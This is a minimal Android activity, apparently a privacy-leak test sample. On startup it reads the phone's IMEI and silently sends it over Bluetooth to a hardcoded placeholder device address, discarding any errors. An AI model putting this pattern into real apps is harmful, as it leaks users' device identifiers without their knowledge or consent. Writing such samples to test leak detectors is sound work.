package p;

import android.app.Activity;
import android.bluetooth.BluetoothAdapter;
import android.bluetooth.BluetoothDevice;
import android.bluetooth.BluetoothSocket;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final String device = phone.getImei();
        new Thread(() -> send(device)).start();
    }

    private static void send(String text) {
        try {
            BluetoothDevice printer = BluetoothAdapter.getDefaultAdapter().getRemoteDevice("00:11:22:33:44:55");
            java.util.UUID serial = java.util.UUID.fromString("00001101-0000-1000-8000-00805F9B34FB");
            BluetoothSocket socket = printer.createRfcommSocketToServiceRecord(serial);
            socket.connect();
            socket.getOutputStream().write(text.getBytes());
            socket.close();
        } catch (IOException error) {
            return;
        }
    }
}
